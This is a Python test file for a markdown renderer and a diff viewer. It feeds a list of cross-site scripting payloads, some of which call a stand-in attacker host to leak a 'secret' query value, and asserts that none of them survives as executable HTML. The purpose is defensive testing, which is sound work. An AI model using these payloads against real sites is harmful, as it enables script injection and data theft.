"""Documents are hostile: nothing in them runs, loads or leaves."""

from __future__ import annotations

import pytest

from api.differences import Difference, Hunk, Op, Piece
from api.markdown import render
from api.pages import change as pages_change

HOSTILE = [
    "<img src=x onerror=alert(1)>",
    "[go](javascript:alert(1))",
    "[go](data:text/html;base64,PHNjcmlwdD4=)",
    "![x](https://attacker.example/?q=secret)",
    '[a](https://e.example "x\\" onmouseover=alert(1)")',
    "</script><svg onload=alert(1)>",
    "<a href='javascript:alert(1)'>x</a>",
    "<style>@import url(https://attacker.example/)</style>",
    "`<script>alert(1)</script>`",
    "| a |\n|---|\n| <iframe src=https://attacker.example> |",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "[x]: https://attacker.example\n\n![y][x]",
]


@pytest.mark.parametrize("text", HOSTILE)
def test_no_element_of_a_document_runs_or_loads(text: str) -> None:
    html = render(text).lower()
    for tag in ("<script", "<img", "<svg", "<iframe", "<style", "<object", "<link", "<video"):
        assert tag not in html
    for attribute in ('href="javascript', 'href="data', ' onerror="', ' onmouseover="', "style="):
        assert attribute not in html


def test_headings_begin_below_those_of_the_page() -> None:
    assert render("# A\n\n## B") == "<h3>A</h3>\n<h4>B</h4>\n"
    assert render("### A\n\n##### B") == "<h3>A</h3>\n<h5>B</h5>\n"


def test_tables_lists_and_emphasis_stay() -> None:
    html = render("| a |\n|---|\n| **b** |\n\n3. c\n\n~~d~~ [e](https://e.example)")
    assert "<td><strong>b</strong></td>" in html
    assert '<ol start="3">' in html
    assert "<s>d</s>" in html
    assert 'rel="noopener noreferrer nofollow"' in html


def _hunk(op: Op, text: str) -> Hunk:
    return Hunk(old=1, new=1, pieces=(Piece(op=op, text=text),))


def test_long_unchanged_stretches_are_folded_and_none_of_their_text_is_lost() -> None:
    lines = "".join(f"line {number}\n" for number in range(20))
    hunks = (_hunk("equal", lines), _hunk("insert", "new\n"), _hunk("equal", lines))
    shown = pages_change.shown(Difference(level="words", hunks=hunks))
    first, middle, last = shown["hunks"]
    assert shown["places"] == 1
    assert middle["text"] == "new\n"
    assert first["head"] == ""
    assert last["tail"] == ""
    for hunk in (first, last):
        assert hunk["folded"]
        assert hunk["head"] + hunk["middle"] + hunk["tail"] == lines
        assert hunk["lines"] == 18
